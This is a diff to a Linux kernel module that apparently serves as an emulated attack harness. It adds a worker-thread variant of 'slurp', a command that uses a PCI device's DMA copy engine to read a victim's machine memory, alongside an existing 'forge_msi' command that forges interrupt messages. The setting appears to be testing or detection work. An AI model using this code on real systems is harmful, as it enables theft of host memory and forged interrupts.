@@ -9,6 +9,7 @@
 #include <linux/kernel.h>
 #include <linux/pci.h>
 #include <linux/slab.h>
+#include <linux/workqueue.h>
 
 #include "driver/env/emul.h"
 #include "driver/env/work.h"
@@ -32,8 +33,41 @@ static struct pci_dev *find_endpoint(void)
 	return NULL;
 }
 
+/* Writes the address to copy from. From more than one place: a report has to name the one that did it. */
+typedef void (*aim_fn)(void __iomem *bar, u64 from);
+
+static noinline void aim(void __iomem *bar, u64 from)
+{
+	writel(lower_32_bits(from), bar + SRC_LOWER);
+	writel(upper_32_bits(from), bar + SRC_UPPER);
+}
+
+struct order {
+	struct work_struct work;
+	void __iomem *bar;
+	u64 from;
+};
+
+static noinline void aim_in_worker(struct work_struct *work)
+{
+	struct order *order = container_of(work, struct order, work);
+
+	writel(upper_32_bits(order->from), order->bar + SRC_UPPER);
+	writel(lower_32_bits(order->from), order->bar + SRC_LOWER);
+}
+
+static void aim_by_worker(void __iomem *bar, u64 from)
+{
+	struct order order = { .bar = bar, .from = from };
+
+	INIT_WORK_ONSTACK(&order.work, aim_in_worker);
+	schedule_work(&order.work);
+	flush_work(&order.work);
+	destroy_work_on_stack(&order.work);
+}
+
 /* Copies `size` bytes of machine memory from `from` to `to` with the device's own engine. */
-static noinline int copy(struct pci_dev *dev, u64 from, u64 to, u32 size)
+static noinline int copy(struct pci_dev *dev, aim_fn aim_at, u64 from, u64 to, u32 size)
 {
 	void __iomem *bar = pci_iomap(dev, 0, 0);
 	u32 status = 0;
@@ -42,8 +76,7 @@ static noinline int copy(struct pci_dev *dev, u64 from, u64 to, u32 size)
 	if (!bar)
 		return -ENOMEM;
 	writel(0, bar + STATUS);
-	writel(lower_32_bits(from), bar + SRC_LOWER);
-	writel(upper_32_bits(from), bar + SRC_UPPER);
+	aim_at(bar, from);
 	writel(lower_32_bits(to), bar + DST_LOWER);
 	writel(upper_32_bits(to), bar + DST_UPPER);
 	writel(size, bar + SIZE);
@@ -61,8 +94,8 @@ static noinline int copy(struct pci_dev *dev, u64 from, u64 to, u32 size)
 	return status & STATUS_COPY_FAIL ? -EIO : -ETIMEDOUT;
 }
 
-/* slurp ADDRESS BYTES: reads a victim's machine memory into a buffer of this domain. */
-static int slurp(int argc, char **argv)
+/* Reads a victim's machine memory into a buffer of this domain: arguments ADDRESS BYTES. */
+static int read_victim(int argc, char **argv, aim_fn aim_at)
 {
 	struct pci_dev *dev = find_endpoint();
 	unsigned long long from;
@@ -79,12 +112,24 @@ static int slurp(int argc, char **argv)
 	if (!loot)
 		return -ENOMEM;
 	to = dma_map_single(&dev->dev, loot, bytes, DMA_FROM_DEVICE);
-	result = dma_mapping_error(&dev->dev, to) ? -ENOMEM : copy(dev, from, to, bytes);
+	result = dma_mapping_error(&dev->dev, to) ? -ENOMEM : copy(dev, aim_at, from, to, bytes);
 	if (!dma_mapping_error(&dev->dev, to))
 		dma_unmap_single(&dev->dev, to, bytes, DMA_FROM_DEVICE);
 	pci_dev_put(dev);
 	/* The loot stays: it is what the attacker came for. */
 	return result;
+}
+
+/* slurp ADDRESS BYTES */
+static int slurp(int argc, char **argv)
+{
+	return read_victim(argc, argv, aim);
+}
+
+/* slurp_by_worker ADDRESS BYTES: the same, the address written by a kernel worker thread. */
+static int slurp_by_worker(int argc, char **argv)
+{
+	return read_victim(argc, argv, aim_by_worker);
 }
 
 /* forge_msi ADDRESS DATA: has the device write an interrupt message that is not its own. */
@@ -105,7 +150,7 @@ static int forge_msi(int argc, char **argv)
 		return -ENOMEM;
 	*message = data;
 	from = dma_map_single(&dev->dev, message, sizeof(*message), DMA_TO_DEVICE);
-	result = dma_mapping_error(&dev->dev, from) ? -ENOMEM : copy(dev, from, to, sizeof(*message));
+	result = dma_mapping_error(&dev->dev, from) ? -ENOMEM : copy(dev, aim, from, to, sizeof(*message));
 	if (!dma_mapping_error(&dev->dev, from))
 		dma_unmap_single(&dev->dev, from, sizeof(*message), DMA_TO_DEVICE);
 	pci_dev_put(dev);
@@ -113,4 +158,5 @@ static int forge_msi(int argc, char **argv)
 }
 
 EMUL_REGISTER("slurp", EMUL_CALLABLE, slurp);
+EMUL_REGISTER("slurp_by_worker", EMUL_CALLABLE, slurp_by_worker);
 EMUL_REGISTER("forge_msi", EMUL_CALLABLE, forge_msi);
